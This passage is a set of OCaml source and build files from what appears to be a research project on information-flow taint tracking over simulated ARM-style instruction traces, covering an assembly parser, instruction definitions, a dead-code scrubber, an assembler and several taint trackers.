    (property-tested). *)

val insn_exn : string -> Insn.t

val fragment : string -> (Asm.fragment, string) result
(** Parse a multi-line listing: instructions, [label:] lines, blank lines
    and [@ comment] / [# comment] suffixes. *)

val fragment_exn : string -> Asm.fragment
