exception Parse_error of string

let fail fmt = Printf.ksprintf (fun s -> raise (Parse_error s)) fmt

(* --- lexing ---------------------------------------------------------------- *)

(* Split a line into tokens; punctuation characters are their own tokens. *)
let tokenize line =
  let buf = Buffer.create 8 in
  let tokens = ref [] in
  let flush () =
    if Buffer.length buf > 0 then begin
      tokens := Buffer.contents buf :: !tokens;
      Buffer.clear buf
    end
  in
  String.iter
    (fun c ->
      match c with
      | ' ' | '\t' -> flush ()
      | '[' | ']' | '{' | '}' | ',' | '!' | ':' ->
          flush ();
          tokens := String.make 1 c :: !tokens
      | _ -> Buffer.add_char buf c)
    line;
  flush ();
  List.rev !tokens

(* --- atoms ----------------------------------------------------------------- *)

let reg_of_string s =
  match String.lowercase_ascii s with
  | "sp" -> Some Reg.SP
  | "lr" -> Some Reg.LR
  | "pc" -> Some Reg.PC
  | s when String.length s >= 2 && s.[0] = 'r' -> (
      match int_of_string_opt (String.sub s 1 (String.length s - 1)) with
      | Some n when n >= 0 && n <= 12 -> Some (Reg.of_index n)
      | Some _ | None -> None)
  | _ -> None

let reg_exn s =
  match reg_of_string s with
  | Some r -> r
  | None -> fail "expected a register, got %S" s

let imm_exn s =
  if String.length s < 2 || s.[0] <> '#' then
    fail "expected an immediate, got %S" s
  else
    match int_of_string_opt (String.sub s 1 (String.length s - 1)) with
    | Some v -> v
    | None -> fail "bad immediate %S" s

let label_index_exn s =
  (* .L<n> *)
  if String.length s > 2 && s.[0] = '.' && s.[1] = 'L' then
    match int_of_string_opt (String.sub s 2 (String.length s - 2)) with
    | Some n -> n
    | None -> fail "bad label %S" s
  else fail "expected a .L<n> label, got %S" s

let shift_exn kind amount =
  let n = imm_exn amount in
  match String.lowercase_ascii kind with
  | "lsl" -> Insn.Lsl n
  | "lsr" -> Insn.Lsr n
  | "asr" -> Insn.Asr n
  | _ -> fail "bad shift kind %S" kind

(* An operand at the end of a token list: #imm | reg | reg , shift #n *)
let operand_exn tokens =
  match tokens with
  | [ t ] when String.length t > 0 && t.[0] = '#' -> Insn.Imm (imm_exn t)
  | [ t ] -> Insn.Reg (reg_exn t)
  | [ r; ","; kind; amount ] -> Insn.Shifted (reg_exn r, shift_exn kind amount)
  | _ -> fail "bad operand %S" (String.concat " " tokens)

(* --- addressing modes ------------------------------------------------------- *)

(* tokens after the transfer register, e.g. ["["; "r1"; ","; "r4"; "]"] *)
let amode_exn tokens =
  let split_bracket inner rest =
    let base, op =
      match inner with
      | [ rn ] -> (reg_exn rn, Insn.Imm 0)
      | rn :: "," :: op -> (reg_exn rn, operand_exn op)
      | _ -> fail "bad address %S" (String.concat " " inner)
    in
    match rest with
    | [] -> Insn.Offset (base, op)
    | [ "!" ] -> Insn.Pre (base, op)
    | "," :: post_op -> (
        match op with
        | Insn.Imm 0 -> Insn.Post (base, operand_exn post_op)
        | _ -> fail "post-index with an offset inside the brackets")
    | _ -> fail "trailing tokens after address: %S" (String.concat " " rest)
  in
  match tokens with
  | "[" :: rest -> (
      (* find the matching close bracket *)
      let rec split acc = function
        | "]" :: tail -> (List.rev acc, tail)
        | t :: tail -> split (t :: acc) tail
        | [] -> fail "missing ]"
      in
      let inner, rest = split [] rest in
      split_bracket inner rest)
  | _ -> fail "expected [, got %S" (String.concat " " tokens)

let reg_list_exn tokens =
  match tokens with
  | "{" :: rest ->
      let rec go acc = function
        | "}" :: [] -> List.rev acc
        | r :: "," :: rest -> go (reg_exn r :: acc) rest
        | [ r; "}" ] -> List.rev (reg_exn r :: acc)
        | other -> fail "bad register list %S" (String.concat " " other)
      in
      go [] rest
  | _ -> fail "expected {, got %S" (String.concat " " tokens)

(* --- mnemonics ---------------------------------------------------------------- *)

let conds =
  [
    ("eq", Cond.Eq); ("ne", Cond.Ne); ("lt", Cond.Lt); ("le", Cond.Le);
    ("gt", Cond.Gt); ("ge", Cond.Ge); ("lo", Cond.Lo); ("hs", Cond.Hs);
    ("hi", Cond.Hi); ("ls", Cond.Ls);
  ]

let width_of_suffix = function
  | "" -> Some Insn.Word
  | "b" -> Some Insn.Byte
  | "h" -> Some Insn.Half
  | "d" -> Some Insn.Dword
  | _ -> None

let alu_ops =
  [
    ("add", Insn.Add); ("sub", Insn.Sub); ("rsb", Insn.Rsb);
    ("mul", Insn.Mul); ("and", Insn.And); ("orr", Insn.Orr);
    ("eor", Insn.Eor); ("lsl", Insn.Lsl_op); ("lsr", Insn.Lsr_op);
    ("asr", Insn.Asr_op);
  ]

type target = Index of int | Name of string

let parse_target s =
  if String.length s > 2 && s.[0] = '.' && s.[1] = 'L' then
    Index (label_index_exn s)
  else Name s

(* A parsed instruction whose branch target may be symbolic. *)
type parsed =
  | Plain of Insn.t
  | Branch of Cond.t * target
  | Call of target

let strip_suffix s suffix =
  let n = String.length s and m = String.length suffix in
  if n >= m && String.sub s (n - m) m = suffix then Some (String.sub s 0 (n - m))
  else None

let parse_tokens mnemonic args =
  let m = String.lowercase_ascii mnemonic in
  let three_regs_or_op alu flags =
    match args with
    | d :: "," :: s :: "," :: op ->
        Plain (Insn.Alu (alu, flags, reg_exn d, reg_exn s, operand_exn op))
    | _ -> fail "bad ALU operands %S" (String.concat " " args)
  in
  let mem build =
    match args with
    | r :: "," :: rest -> build (reg_exn r) (amode_exn rest)
    | _ -> fail "bad memory operands %S" (String.concat " " args)
  in
  match m with
  | "nop" -> Plain Insn.Nop
  | "bx" -> (
      match args with
      | [ r ] -> Plain (Insn.Bx (reg_exn r))
      | _ -> fail "bx takes one register")
  | "bl" -> (
      match args with
      | [ t ] -> Call (parse_target t)
      | _ -> fail "bl takes one target")
  | "mov" | "mvn" -> (
      match args with
      | d :: "," :: op ->
          let r = reg_exn d and o = operand_exn op in
          Plain (if m = "mov" then Insn.Mov (r, o) else Insn.Mvn (r, o))
      | _ -> fail "bad %s operands" m)
  | "cmp" -> (
      match args with
      | r :: "," :: op -> Plain (Insn.Cmp (reg_exn r, operand_exn op))
      | _ -> fail "bad cmp operands")
  | "ubfx" -> (
      match args with
      | [ d; ","; s; ","; lsb; ","; w ] ->
          Plain (Insn.Ubfx (reg_exn d, reg_exn s, imm_exn lsb, imm_exn w))
      | _ -> fail "bad ubfx operands")
  | "udiv" -> (
      match args with
      | [ d; ","; n; ","; dm ] ->
          Plain (Insn.Udiv (reg_exn d, reg_exn n, reg_exn dm))
      | _ -> fail "bad udiv operands")
  | "ldmia" -> (
      match args with
      | rn :: "!" :: "," :: rest ->
          Plain (Insn.Ldm (reg_exn rn, reg_list_exn rest))
      | _ -> fail "bad ldmia operands")
  | "stmdb" -> (
      match args with
      | rn :: "!" :: "," :: rest ->
          Plain (Insn.Stm (reg_exn rn, reg_list_exn rest))
      | _ -> fail "bad stmdb operands")
  | _ -> (
      (* ldr/str with width suffix *)
      let try_load_store () =
        let attempt prefix build =
          if String.length m >= String.length prefix
             && String.sub m 0 (String.length prefix) = prefix
          then
            match
              width_of_suffix
                (String.sub m (String.length prefix)
                   (String.length m - String.length prefix))
            with
            | Some w -> Some (mem (fun r am -> Plain (build w r am)))
            | None -> None
          else None
        in
        match attempt "ldr" (fun w r am -> Insn.Ldr (w, r, am)) with
        | Some p -> Some p
        | None -> attempt "str" (fun w r am -> Insn.Str (w, r, am))
      in
      let try_alu () =
        let with_flags name flags =
          match List.assoc_opt name alu_ops with
          | Some alu -> Some (three_regs_or_op alu flags)
          | None -> None
        in
        match with_flags m false with
        | Some p -> Some p
        | None -> (
            match strip_suffix m "s" with
            | Some base -> with_flags base true
            | None -> None)
      in
      let try_branch () =
        if String.length m >= 1 && m.[0] = 'b' then
          let suffix = String.sub m 1 (String.length m - 1) in
          let cond =
            if String.equal suffix "" then Some Cond.Always
            else List.assoc_opt suffix conds
          in
          match (cond, args) with
          | Some c, [ t ] -> Some (Branch (c, parse_target t))
          | _ -> None
        else None
      in
      match try_load_store () with
      | Some p -> p
      | None -> (
          match try_alu () with
          | Some p -> p
          | None -> (
              match try_branch () with
              | Some p -> p
              | None -> fail "unknown mnemonic %S" mnemonic)))

let parse_line line =
  match tokenize line with
  | [] -> None
  | mnemonic :: args -> Some (parse_tokens mnemonic args)

(* --- public API --------------------------------------------------------------- *)

let insn s =
  match parse_line s with
  | None -> Error "empty input"
  | Some (Plain i) -> Ok i
  | Some (Branch (c, Index n)) -> Ok (Insn.B (c, n))
  | Some (Call (Index n)) -> Ok (Insn.Bl n)
  | Some (Branch (_, Name n)) | Some (Call (Name n)) ->
      Error (Printf.sprintf "symbolic label %S outside a fragment" n)
  | exception Parse_error e -> Error e

let insn_exn s =
  match insn s with Ok i -> i | Error e -> fail "%s" e

(* '#' also starts immediates, so only treat it as a comment when it is
   the first non-blank character; '@' comments can trail anywhere. *)
let strip_comments line =
  let t = String.trim line in
  if String.length t > 0 && t.[0] = '#' then ""
  else
    match String.index_opt t '@' with
    | Some i -> String.trim (String.sub t 0 i)
    | None -> t

let fragment text =
  try
    let a = Asm.create () in
    String.split_on_char '\n' text
    |> List.iter (fun raw ->
           let line = strip_comments raw in
           if not (String.equal line "") then
             match tokenize line with
             | [ name; ":" ] -> Asm.label a name
             | tokens -> (
                 match tokens with
                 | [] -> ()
                 | mnemonic :: args -> (
                     match parse_tokens mnemonic args with
                     | Plain i -> Asm.emit a i
                     | Branch (c, Name n) -> Asm.branch a c n
                     | Branch (c, Index n) -> Asm.emit a (Insn.B (c, n))
                     | Call (Name n) -> Asm.call a n
                     | Call (Index n) -> Asm.emit a (Insn.Bl n))));
    Ok (Asm.assemble a)
  with
  | Parse_error e -> Error e
  | Failure e -> Error e
  | Invalid_argument e -> Error e

let fragment_exn text =
  match fragment text with Ok f -> f | Error e -> fail "%s" e
