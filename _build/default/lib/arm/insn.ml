type width = Byte | Half | Word | Dword

let width_bytes = function Byte -> 1 | Half -> 2 | Word -> 4 | Dword -> 8

type shift = Lsl of int | Lsr of int | Asr of int

type operand = Imm of int | Reg of Reg.t | Shifted of Reg.t * shift

type amode =
  | Offset of Reg.t * operand
  | Pre of Reg.t * operand
  | Post of Reg.t * operand

type alu = Add | Sub | Rsb | Mul | And | Orr | Eor | Lsl_op | Lsr_op | Asr_op

type t =
  | Ldr of width * Reg.t * amode
  | Str of width * Reg.t * amode
  | Ldm of Reg.t * Reg.t list
  | Stm of Reg.t * Reg.t list
  | Mov of Reg.t * operand
  | Mvn of Reg.t * operand
  | Alu of alu * bool * Reg.t * Reg.t * operand
  | Ubfx of Reg.t * Reg.t * int * int
  | Udiv of Reg.t * Reg.t * Reg.t
  | Cmp of Reg.t * operand
  | B of Cond.t * int
  | Bl of int
  | Bx of Reg.t
  | Nop

let is_load = function Ldr _ | Ldm _ -> true | _ -> false
let is_store = function Str _ | Stm _ -> true | _ -> false
let is_memory i = is_load i || is_store i

let width_suffix = function Byte -> "b" | Half -> "h" | Word -> "" | Dword -> "d"

let alu_name = function
  | Add -> "add"
  | Sub -> "sub"
  | Rsb -> "rsb"
  | Mul -> "mul"
  | And -> "and"
  | Orr -> "orr"
  | Eor -> "eor"
  | Lsl_op -> "lsl"
  | Lsr_op -> "lsr"
  | Asr_op -> "asr"

let pp_shift ppf = function
  | Lsl n -> Format.fprintf ppf "lsl #%d" n
  | Lsr n -> Format.fprintf ppf "lsr #%d" n
  | Asr n -> Format.fprintf ppf "asr #%d" n

let pp_operand ppf = function
  | Imm n -> Format.fprintf ppf "#%d" n
  | Reg r -> Reg.pp ppf r
  | Shifted (r, s) -> Format.fprintf ppf "%a, %a" Reg.pp r pp_shift s

let pp_amode ppf = function
  | Offset (rn, Imm 0) -> Format.fprintf ppf "[%a]" Reg.pp rn
  | Offset (rn, op) -> Format.fprintf ppf "[%a, %a]" Reg.pp rn pp_operand op
  | Pre (rn, op) -> Format.fprintf ppf "[%a, %a]!" Reg.pp rn pp_operand op
  | Post (rn, op) -> Format.fprintf ppf "[%a], %a" Reg.pp rn pp_operand op

let pp_reg_list ppf regs =
  Format.fprintf ppf "{%a}"
    (Format.pp_print_list
       ~pp_sep:(fun ppf () -> Format.pp_print_string ppf ", ")
       Reg.pp)
    regs

let pp ppf = function
  | Ldr (w, r, am) ->
      Format.fprintf ppf "ldr%s %a, %a" (width_suffix w) Reg.pp r pp_amode am
  | Str (w, r, am) ->
      Format.fprintf ppf "str%s %a, %a" (width_suffix w) Reg.pp r pp_amode am
  | Ldm (rn, regs) ->
      Format.fprintf ppf "ldmia %a!, %a" Reg.pp rn pp_reg_list regs
  | Stm (rn, regs) ->
      Format.fprintf ppf "stmdb %a!, %a" Reg.pp rn pp_reg_list regs
  | Mov (r, op) -> Format.fprintf ppf "mov %a, %a" Reg.pp r pp_operand op
  | Mvn (r, op) -> Format.fprintf ppf "mvn %a, %a" Reg.pp r pp_operand op
  | Alu (op, flags, d, s, o) ->
      Format.fprintf ppf "%s%s %a, %a, %a" (alu_name op)
        (if flags then "s" else "")
        Reg.pp d Reg.pp s pp_operand o
  | Ubfx (d, s, lsb, w) ->
      Format.fprintf ppf "ubfx %a, %a, #%d, #%d" Reg.pp d Reg.pp s lsb w
  | Udiv (d, n, m) ->
      Format.fprintf ppf "udiv %a, %a, %a" Reg.pp d Reg.pp n Reg.pp m
  | Cmp (r, op) -> Format.fprintf ppf "cmp %a, %a" Reg.pp r pp_operand op
  | B (c, target) -> Format.fprintf ppf "b%a .L%d" Cond.pp c target
  | Bl target -> Format.fprintf ppf "bl .L%d" target
  | Bx r -> Format.fprintf ppf "bx %a" Reg.pp r
  | Nop -> Format.pp_print_string ppf "nop"

let to_string i = Format.asprintf "%a" pp i
