module Iset = Set.Make (Int)

let default_live_out =
  [ Reg.R4; Reg.R5; Reg.R6; Reg.R7; Reg.R8; Reg.SP; Reg.LR; Reg.PC ]

let straight_line frag =
  Array.for_all
    (fun insn ->
      match insn with
      | Insn.B _ | Insn.Bl _ -> false
      | Insn.Bx r -> Reg.equal r Reg.LR
      | _ -> true)
    frag

let operand_uses = function
  | Insn.Imm _ -> []
  | Insn.Reg r | Insn.Shifted (r, _) -> [ r ]

let amode_uses = function
  | Insn.Offset (rn, op) | Insn.Pre (rn, op) | Insn.Post (rn, op) ->
      rn :: operand_uses op

(* (defs, uses) of one instruction; [None] when the instruction must be
   kept regardless of liveness (memory access, flags, control). *)
let pure_def_use = function
  | Insn.Mov (d, op) | Insn.Mvn (d, op) -> Some ([ d ], operand_uses op)
  | Insn.Alu (_, set_flags, d, s, op) ->
      if set_flags then None else Some ([ d ], s :: operand_uses op)
  | Insn.Ubfx (d, s, _, _) -> Some ([ d ], [ s ])
  | Insn.Udiv (d, n, m) -> Some ([ d ], [ n; m ])
  | Insn.Nop -> Some ([], [])
  | Insn.Ldr _ | Insn.Str _ | Insn.Ldm _ | Insn.Stm _ | Insn.Cmp _
  | Insn.B _ | Insn.Bl _ | Insn.Bx _ ->
      None

(* All registers an always-kept instruction reads. *)
let kept_uses = function
  | Insn.Ldr (_, _, am) -> amode_uses am
  | Insn.Str (w, r, am) ->
      let extra =
        match w with Insn.Dword -> [ Reg.succ r ] | _ -> []
      in
      (r :: extra) @ amode_uses am
  | Insn.Ldm (rn, _) -> [ rn ]
  | Insn.Stm (rn, regs) -> rn :: regs
  | Insn.Cmp (r, op) -> r :: operand_uses op
  | Insn.Bx r -> [ r ]
  | Insn.Mov _ | Insn.Mvn _ | Insn.Alu _ | Insn.Ubfx _ | Insn.Udiv _
  | Insn.B _ | Insn.Bl _ | Insn.Nop ->
      []

let kept_defs = function
  | Insn.Ldr (w, r, am) ->
      let extra =
        match w with Insn.Dword -> [ Reg.succ r ] | _ -> []
      in
      let wb =
        match am with
        | Insn.Pre (rn, _) | Insn.Post (rn, _) -> [ rn ]
        | Insn.Offset _ -> []
      in
      (r :: extra) @ wb
  | Insn.Str (_, _, am) -> (
      match am with
      | Insn.Pre (rn, _) | Insn.Post (rn, _) -> [ rn ]
      | Insn.Offset _ -> [])
  | Insn.Ldm (rn, regs) -> rn :: regs
  | Insn.Stm (rn, _) -> [ rn ]
  | Insn.Bl _ -> [ Reg.LR ]
  | _ -> []

let scrub ?(live_out = default_live_out) frag =
  if not (straight_line frag) then frag
  else begin
    let live = ref Iset.empty in
    List.iter (fun r -> live := Iset.add (Reg.index r) !live) live_out;
    let keep = Array.make (Array.length frag) true in
    for i = Array.length frag - 1 downto 0 do
      let insn = frag.(i) in
      match pure_def_use insn with
      | Some (defs, uses) ->
          let defines_live =
            List.exists (fun d -> Iset.mem (Reg.index d) !live) defs
          in
          if defines_live then begin
            List.iter (fun d -> live := Iset.remove (Reg.index d) !live) defs;
            List.iter (fun u -> live := Iset.add (Reg.index u) !live) uses
          end
          else keep.(i) <- false
      | None ->
          List.iter
            (fun d -> live := Iset.remove (Reg.index d) !live)
            (kept_defs insn);
          List.iter
            (fun u -> live := Iset.add (Reg.index u) !live)
            (kept_uses insn)
    done;
    let out = ref [] in
    for i = Array.length frag - 1 downto 0 do
      if keep.(i) then out := frag.(i) :: !out
    done;
    Array.of_list !out
  end

(* Registers a store reads: transfer register(s) plus address operands. *)
let store_uses = function
  | Insn.Str (w, r, am) ->
      let extra = match w with Insn.Dword -> [ Reg.succ r ] | _ -> [] in
      Some ((r :: extra) @ amode_uses am)
  | _ -> None

(* Does [insn] block hoisting a store above it?  Memory operations (order
   must be preserved), flag producers/consumers, control flow, and
   writeback addressing all block; pure register work blocks only if it
   defines one of the store's operands. *)
let blocks_hoist ~uses insn =
  match insn with
  | Insn.Ldr _ | Insn.Str _ | Insn.Ldm _ | Insn.Stm _ | Insn.Cmp _
  | Insn.B _ | Insn.Bl _ | Insn.Bx _ ->
      true
  | Insn.Alu (_, set_flags, d, _, _) ->
      set_flags || List.exists (Reg.equal d) uses
  | Insn.Mov (d, _) | Insn.Mvn (d, _) | Insn.Ubfx (d, _, _, _)
  | Insn.Udiv (d, _, _) ->
      List.exists (Reg.equal d) uses
  | Insn.Nop -> false

let relocate_stores frag =
  if not (straight_line frag) then frag
  else begin
    let insns = Array.copy frag in
    let n = Array.length insns in
    for i = 0 to n - 1 do
      match store_uses insns.(i) with
      | None -> ()
      | Some uses ->
          (* writeback stores move their own base register: don't touch *)
          let writeback =
            match insns.(i) with
            | Insn.Str (_, _, (Insn.Pre _ | Insn.Post _)) -> true
            | _ -> false
          in
          if not writeback then begin
            let j = ref i in
            while !j > 0 && not (blocks_hoist ~uses insns.(!j - 1)) do
              decr j
            done;
            if !j < i then begin
              let store = insns.(i) in
              Array.blit insns !j insns (!j + 1) (i - !j);
              insns.(!j) <- store
            end
          end
    done;
    insns
  end

let removed ~before ~after = Array.length before - Array.length after
