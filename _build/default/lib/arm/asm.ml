type fragment = Insn.t array

type pending = Branch of Cond.t | Call

type t = {
  mutable insns : Insn.t array;
  mutable len : int;
  labels : (string, int) Hashtbl.t;
  mutable fixups : (int * pending * string) list;
}

let create () =
  { insns = Array.make 32 Insn.Nop; len = 0; labels = Hashtbl.create 8;
    fixups = [] }

let emit t insn =
  if t.len = Array.length t.insns then
    t.insns <- Array.append t.insns (Array.make t.len Insn.Nop);
  t.insns.(t.len) <- insn;
  t.len <- t.len + 1

let emit_all t insns = List.iter (emit t) insns
let here t = t.len

let label t name =
  if Hashtbl.mem t.labels name then
    invalid_arg (Printf.sprintf "Asm.label: %S already bound" name);
  Hashtbl.add t.labels name t.len

let branch t cond name =
  t.fixups <- (t.len, Branch cond, name) :: t.fixups;
  emit t (Insn.B (cond, -1))

let call t name =
  t.fixups <- (t.len, Call, name) :: t.fixups;
  emit t (Insn.Bl (-1))

let ret t = emit t (Insn.Bx Reg.LR)

let assemble t =
  let resolve (idx, kind, name) =
    match Hashtbl.find_opt t.labels name with
    | None -> failwith (Printf.sprintf "Asm.assemble: undefined label %S" name)
    | Some target ->
        t.insns.(idx) <-
          (match kind with
          | Branch cond -> Insn.B (cond, target)
          | Call -> Insn.Bl target)
  in
  List.iter resolve t.fixups;
  Array.sub t.insns 0 t.len
