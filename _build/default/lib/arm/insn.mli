(** The simulated instruction set: an ARM-flavoured load/store RISC ISA.

    Only the features that shape the paper's traces are modelled: byte /
    halfword / word / doubleword loads and stores with immediate, register
    and shifted-register addressing (including pre/post-index writeback),
    load/store-multiple, the ALU operations appearing in Dalvik
    translations ([mov], [add], [sub], [mul], [and], [orr], [eor], shifts,
    [ubfx], [udiv]), comparison, and (conditional) branches.

    Branch targets are indices into the enclosing fragment's instruction
    array; {!Asm} resolves symbolic labels to indices. *)

type width = Byte | Half | Word | Dword

val width_bytes : width -> int
(** 1, 2, 4 or 8. *)

type shift = Lsl of int | Lsr of int | Asr of int

type operand =
  | Imm of int
  | Reg of Reg.t
  | Shifted of Reg.t * shift
      (** e.g. [r9, lsl #2] in the GET_VREG addressing idiom. *)

type amode =
  | Offset of Reg.t * operand  (** [\[rn, op\]] — no writeback *)
  | Pre of Reg.t * operand  (** [\[rn, op\]!] — writeback before access *)
  | Post of Reg.t * operand  (** [\[rn\], op] — writeback after access *)

type alu = Add | Sub | Rsb | Mul | And | Orr | Eor | Lsl_op | Lsr_op | Asr_op

type t =
  | Ldr of width * Reg.t * amode
      (** [Ldr (Dword, r, am)] also fills [Reg.succ r]. *)
  | Str of width * Reg.t * amode
      (** [Str (Dword, r, am)] also stores [Reg.succ r]. *)
  | Ldm of Reg.t * Reg.t list
      (** [ldmia rn!, {regs}] — ascending with writeback (pop idiom). *)
  | Stm of Reg.t * Reg.t list
      (** [stmdb rn!, {regs}] — descending with writeback (push idiom). *)
  | Mov of Reg.t * operand
  | Mvn of Reg.t * operand
  | Alu of alu * bool * Reg.t * Reg.t * operand
      (** [Alu (op, set_flags, dst, src, operand)]; with [set_flags] the
          result is compared against zero for later conditional branches
          (the [adds]/[subs] idiom). *)
  | Ubfx of Reg.t * Reg.t * int * int
      (** [Ubfx (dst, src, lsb, width)] — unsigned bit-field extract. *)
  | Udiv of Reg.t * Reg.t * Reg.t
      (** [Udiv (dst, num, den)] — unsigned division; division by zero
          yields 0, as on ARMv7-M. *)
  | Cmp of Reg.t * operand
  | B of Cond.t * int  (** conditional branch to a fragment index *)
  | Bl of int  (** call: [LR <- next index]; jump *)
  | Bx of Reg.t  (** indirect jump, [bx lr] is the return idiom *)
  | Nop

val is_load : t -> bool
val is_store : t -> bool
val is_memory : t -> bool

val pp : Format.formatter -> t -> unit
(** Disassembly, e.g. [ldrh r6, \[r1, r4\]]. *)

val to_string : t -> string
