lib/arm/insn.ml: Cond Format Reg
