lib/arm/cond.ml: Format
