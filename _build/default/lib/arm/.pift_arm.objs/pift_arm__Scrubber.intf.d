lib/arm/scrubber.mli: Asm Reg
