lib/arm/asm.mli: Cond Insn
