lib/arm/asm.ml: Array Cond Hashtbl Insn List Printf Reg
