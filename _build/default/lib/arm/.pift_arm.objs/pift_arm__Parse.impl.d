lib/arm/parse.ml: Asm Buffer Cond Insn List Printf Reg String
