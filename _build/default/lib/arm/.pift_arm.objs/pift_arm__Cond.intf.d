lib/arm/cond.mli: Format
