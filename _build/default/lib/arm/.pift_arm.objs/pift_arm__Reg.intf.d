lib/arm/reg.mli: Format
