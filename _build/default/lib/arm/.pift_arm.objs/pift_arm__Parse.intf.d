lib/arm/parse.mli: Asm Insn
