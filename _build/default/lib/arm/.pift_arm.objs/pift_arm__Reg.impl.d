lib/arm/reg.ml: Array Format
