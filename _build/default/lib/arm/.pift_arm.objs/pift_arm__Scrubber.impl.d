lib/arm/scrubber.ml: Array Insn Int List Reg Set
