module Event = Pift_trace.Event

type t = {
  tracker : Tracker.t;
  buffer : Event.t Queue.t;
  buffer_size : int;
  drain_batch : int;
  mutable dropped : int;
}

let create ?(policy = Policy.default) ?(buffer_size = 4096)
    ?(drain_batch = 256) () =
  if buffer_size <= 0 then invalid_arg "Deferred.create: buffer_size";
  if drain_batch <= 0 then invalid_arg "Deferred.create: drain_batch";
  {
    tracker = Tracker.create ~policy ();
    buffer = Queue.create ();
    buffer_size;
    drain_batch;
    dropped = 0;
  }

let drain_some t n =
  let consumed = ref 0 in
  while !consumed < n && not (Queue.is_empty t.buffer) do
    Tracker.observe t.tracker (Queue.pop t.buffer);
    incr consumed
  done

let drain_all t = drain_some t max_int

let taint_source t ~pid r =
  drain_all t;
  Tracker.taint_source t.tracker ~pid r

let observe t e =
  match e.Event.access with
  | Event.Other -> ()
  | Event.Load _ | Event.Store _ ->
      if Queue.length t.buffer >= t.buffer_size then begin
        ignore (Queue.pop t.buffer);
        t.dropped <- t.dropped + 1
      end;
      Queue.push e t.buffer

let tick t = drain_some t t.drain_batch

let check t ~pid r =
  drain_all t;
  Tracker.is_tainted t.tracker ~pid r

let dropped t = t.dropped
let buffered t = Queue.length t.buffer
let tracker t = t.tracker
