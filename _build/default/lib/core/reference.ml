module Range = Pift_util.Range
module Event = Pift_trace.Event

type window = { mutable ltlt : int; mutable nt_used : int }

type t = {
  policy : Policy.t;
  (* (pid, byte address) membership *)
  bytes : (int * int, unit) Hashtbl.t;
  windows : (int, window) Hashtbl.t;
}

let create policy =
  { policy; bytes = Hashtbl.create 256; windows = Hashtbl.create 4 }

let window t pid =
  match Hashtbl.find_opt t.windows pid with
  | Some w -> w
  | None ->
      let w = { ltlt = min_int / 2; nt_used = 0 } in
      Hashtbl.add t.windows pid w;
      w

let iter_bytes r f =
  for a = Range.lo r to Range.hi r do
    f a
  done

let taint_source t ~pid r =
  iter_bytes r (fun a -> Hashtbl.replace t.bytes (pid, a) ())

let untaint t ~pid r =
  iter_bytes r (fun a -> Hashtbl.remove t.bytes (pid, a))

let is_tainted t ~pid r =
  let hit = ref false in
  iter_bytes r (fun a -> if Hashtbl.mem t.bytes (pid, a) then hit := true);
  !hit

let observe t e =
  match e.Event.access with
  | Event.Other -> ()
  | Event.Load r ->
      if is_tainted t ~pid:e.pid r then begin
        let w = window t e.pid in
        w.ltlt <- e.k;
        w.nt_used <- 0
      end
  | Event.Store r ->
      let w = window t e.pid in
      if e.k <= w.ltlt + t.policy.Policy.ni && w.nt_used < t.policy.Policy.nt
      then begin
        taint_source t ~pid:e.pid r;
        w.nt_used <- w.nt_used + 1
      end
      else if t.policy.Policy.untaint then untaint t ~pid:e.pid r

let tainted_bytes t = Hashtbl.length t.bytes

let range_count t =
  let addrs = Hashtbl.fold (fun k () acc -> k :: acc) t.bytes [] in
  let sorted = List.sort compare addrs in
  let count_runs (n, prev) addr =
    match prev with
    | Some (ppid, pa) when fst addr = ppid && snd addr = pa + 1 ->
        (n, Some addr)
    | Some _ | None -> (n + 1, Some addr)
  in
  fst (List.fold_left count_runs (0, None) sorted)
