module Range = Pift_util.Range
module Event = Pift_trace.Event
module Sset = Set.Make (String)

type window = { mutable ltlt : int; mutable nt_used : int; mutable labels : Sset.t }

type t = {
  policy : Policy.t;
  (* (pid, label) -> tainted ranges *)
  state : (int * string, Range_set.t ref) Hashtbl.t;
  windows : (int, window) Hashtbl.t;
  mutable known_labels : Sset.t;
}

let create ?(policy = Policy.default) () =
  {
    policy;
    state = Hashtbl.create 16;
    windows = Hashtbl.create 4;
    known_labels = Sset.empty;
  }

let policy t = t.policy

let set_for t ~pid ~label =
  match Hashtbl.find_opt t.state (pid, label) with
  | Some s -> s
  | None ->
      let s = ref Range_set.empty in
      Hashtbl.add t.state (pid, label) s;
      s

let window t pid =
  match Hashtbl.find_opt t.windows pid with
  | Some w -> w
  | None ->
      let w = { ltlt = min_int / 2; nt_used = 0; labels = Sset.empty } in
      Hashtbl.add t.windows pid w;
      w

let taint_source t ~pid ~label r =
  t.known_labels <- Sset.add label t.known_labels;
  let s = set_for t ~pid ~label in
  s := Range_set.add !s r

let hit_labels t ~pid r =
  Hashtbl.fold
    (fun (p, label) s acc ->
      if p = pid && Range_set.mem_overlap !s r then Sset.add label acc
      else acc)
    t.state Sset.empty

let observe t e =
  match e.Event.access with
  | Event.Other -> ()
  | Event.Load r ->
      let labels = hit_labels t ~pid:e.pid r in
      if not (Sset.is_empty labels) then begin
        let w = window t e.pid in
        w.ltlt <- e.k;
        w.nt_used <- 0;
        w.labels <- labels
      end
  | Event.Store r ->
      let w = window t e.pid in
      if e.k <= w.ltlt + t.policy.Policy.ni && w.nt_used < t.policy.Policy.nt
      then begin
        Sset.iter
          (fun label ->
            let s = set_for t ~pid:e.pid ~label in
            s := Range_set.add !s r)
          w.labels;
        w.nt_used <- w.nt_used + 1
      end
      else if t.policy.Policy.untaint then
        Hashtbl.iter
          (fun (p, _) s ->
            if p = e.pid && Range_set.mem_overlap !s r then
              s := Range_set.remove !s r)
          t.state

let labels_of t ~pid r = Sset.elements (hit_labels t ~pid r)
let is_tainted t ~pid r = not (Sset.is_empty (hit_labels t ~pid r))
let all_labels t = Sset.elements t.known_labels

let tainted_bytes t ~label =
  Hashtbl.fold
    (fun (_, l) s acc ->
      if String.equal l label then acc + Range_set.total_bytes !s else acc)
    t.state 0
