(** Off-critical-path tracking (§1): "the reduction in the amount of data
    means it is possible to move information-flow tracking off the
    critical path in the architecture, such that the load–store stream is
    buffered for delayed processing at a more convenient time (while
    trading prevention for detection, of course)."

    This module models that design: memory events are appended to a
    bounded hardware buffer and the tracker drains it in batches (e.g. at
    quiet moments).  Two consequences the paper trades on are made
    measurable:

    - {e detection, not prevention}: a sink check only sees taint state up
      to the last drain, so {!check} forces a drain first (the kernel
      module would stall the query until the buffer is consumed);
    - {e loss under pressure}: if events arrive faster than they are
      drained and the buffer overflows, the oldest events are dropped —
      possible false negatives, never false positives. *)

type t

val create :
  ?policy:Policy.t -> ?buffer_size:int -> ?drain_batch:int -> unit -> t
